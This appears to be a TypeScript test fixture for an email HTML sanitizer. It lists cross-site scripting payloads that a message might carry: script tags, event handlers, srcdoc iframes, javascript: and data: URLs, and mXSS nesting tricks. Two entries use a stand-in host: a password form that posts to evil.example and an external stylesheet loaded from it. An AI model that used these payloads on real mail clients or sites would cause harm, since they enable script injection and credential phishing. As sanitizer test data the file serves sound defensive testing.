/** What a mail might bring to run something in the browser of whoever reads it. */
export const XSS = [
  "<script>window.hit=3</script>",
  `<p onclick="window.hit=4" style="position:fixed;inset:0">Over all</p>`,
  "<svg onload=window.hit=5><script>window.hit=6</script></svg>",
  `<iframe srcdoc="<script>parent.hit=7</script>"></iframe>`,
  `<a href="java\nscript:window.hit=8">a</a><a href="data:text/html,<script>opener.hit=9</script>">b</a>`,
  `<form action="https://evil.example"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=10></style></mglyph></table></mtext></math>",
  "<template><img src=x onerror=window.hit=11></template><object data='javascript:window.hit=12'></object>",
  "<style>*{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
];
/** The smallest image. */
export const DOT = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
